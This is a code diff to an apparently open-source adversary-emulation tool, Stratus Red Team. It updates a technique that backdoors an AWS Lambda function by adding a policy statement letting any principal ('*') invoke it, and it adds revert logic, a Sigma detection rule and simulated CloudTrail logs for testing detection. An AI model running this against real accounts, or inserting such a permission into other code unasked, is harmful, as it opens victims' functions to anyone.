@@ -1,20 +1,22 @@
 package aws
 
 import (
-	"context"
 	_ "embed"
 	"errors"
 	"github.com/aws/aws-sdk-go-v2/aws"
 	"github.com/aws/aws-sdk-go-v2/service/lambda"
-	"github.com/datadog/stratus-red-team/internal/providers"
+	"github.com/datadog/stratus-red-team/internal/utils"
 	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/logs"
 	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
-	"log"
 )
 
 //go:embed main.tf
 var tf []byte
 
+//go:embed sigma.yml
+var sigma []byte
+
 func init() {
 	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
 		ID:           "aws.persistence.lambda-backdoor-function",
@@ -36,23 +38,26 @@ Detonation:
 - Through [IAM Access Analyzer](https://docs.aws.amazon.com/IAM/latest/UserGuide/access-analyzer-resources.html#access-analyzer-lambda), which triggers a finding when permissions are added to a Lambda function making it 
 public or accessible from another account.
 `,
+		SigmaRules:                 sigma,
 		Platform:                   stratus.AWS,
 		IsIdempotent:               false, // lambda:AddPermissions cannot be called multiple times with the same statement ID
 		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Persistence},
 		PrerequisitesTerraformCode: tf,
+		RequiredOutputs:            []string{"lambda_function_name"},
 		Detonate:                   detonate,
+		Simulate:                   simulate,
 		Revert:                     revert,
 	})
 }
 
 var policyStatementId = "backdoor"
 
-func detonate(params map[string]string) error {
-	lambdaClient := lambda.NewFromConfig(providers.AWS().GetConnection())
-	lambdaFunctionName := params["lambda_function_name"]
+func detonate(execution *stratus.ExecutionContext) error {
+	lambdaClient := lambda.NewFromConfig(execution.AWS.GetConnection())
+	lambdaFunctionName := execution.Parameters["lambda_function_name"]
 
-	log.Println("Backdooring the resource-based policy of the Lambda function " + lambdaFunctionName)
-	result, err := lambdaClient.AddPermission(context.Background(), &lambda.AddPermissionInput{
+	execution.Logger.Println("Backdooring the resource-based policy of the Lambda function " + lambdaFunctionName)
+	result, err := lambdaClient.AddPermission(execution.Context, &lambda.AddPermissionInput{
 		FunctionName: &lambdaFunctionName,
 		Action:       aws.String("lambda:InvokeFunction"),
 		Principal:    aws.String("*"), // I intended to share it only with a specific account ID, but couldn't get it working.
@@ -63,17 +68,17 @@ func detonate(params map[string]string) error {
 		return errors.New("unable to backdoor Lambda function: " + err.Error())
 	}
 
-	log.Println(*result.Statement)
+	execution.Logger.Println(*result.Statement)
 
 	return nil
 }
 
-func revert(params map[string]string) error {
-	lambdaClient := lambda.NewFromConfig(providers.AWS().GetConnection())
-	lambdaFunctionName := params["lambda_function_name"]
+func revert(execution *stratus.ExecutionContext) error {
+	lambdaClient := lambda.NewFromConfig(execution.AWS.GetConnection())
+	lambdaFunctionName := execution.Parameters["lambda_function_name"]
 
-	log.Println("Removing the backdoor statement in the resource-based policy of the Lambda function " + lambdaFunctionName)
-	_, err := lambdaClient.RemovePermission(context.Background(), &lambda.RemovePermissionInput{
+	execution.Logger.Println("Removing the backdoor statement in the resource-based policy of the Lambda function " + lambdaFunctionName)
+	_, err := lambdaClient.RemovePermission(execution.Context, &lambda.RemovePermissionInput{
 		FunctionName: &lambdaFunctionName,
 		StatementId:  &policyStatementId,
 	})
@@ -84,3 +89,16 @@ func revert(params map[string]string) error {
 
 	return nil
 }
+
+// simulate generates the CloudTrail event of the permission being added to the Lambda function
+func simulate(simulation *stratus.SimulationContext) []stratus.LogRecord {
+	functionName := "stratus-red-team-backdoor-f-" + utils.RandomString(8)
+	return []stratus.LogRecord{
+		logs.CloudTrailEvent(simulation, "lambda.amazonaws.com", "AddPermission20150331v2", map[string]interface{}{
+			"functionName": functionName,
+			"statementId":  policyStatementId,
+			"action":       "lambda:InvokeFunction",
+			"principal":    "*",
+		}),
+	}
+}